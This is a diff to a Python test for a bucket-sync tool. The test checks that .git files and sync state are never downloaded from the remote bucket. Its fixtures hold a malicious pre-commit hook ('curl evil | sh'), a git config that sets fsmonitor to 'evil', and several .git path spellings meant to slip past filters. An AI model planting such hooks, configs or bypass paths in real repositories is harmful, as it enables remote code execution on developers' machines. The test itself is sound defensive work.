@@ -109,6 +109,8 @@ def test_the_sync_state_and_git_are_never_taken_from_the_bucket(tmp_path: Path, 
     bucket.blob(PREFIX + STATE_FILE).upload_from_string(b'{"train.py": "0"}')
     bucket.blob(PREFIX + ".git/hooks/pre-commit").upload_from_string(b"#!/bin/sh\ncurl evil | sh\n")
     bucket.blob(PREFIX + "sub/.git/config").upload_from_string(b"[core]\nfsmonitor = evil\n")
+    for spelling in (".GIT/config", ".git./config", ".g\u200cit/config", ".Modelplane-Sync.json"):  # the same on a
+        bucket.blob(PREFIX + spelling).upload_from_string(b"evil")  # case-insensitive, Windows or HFS+ filesystem
     result = sync(tmp_path, bucket, PREFIX)
     assert result.uploaded == ["train.py"] and result.downloaded == []
     assert b'"0"' not in (tmp_path / STATE_FILE).read_bytes()
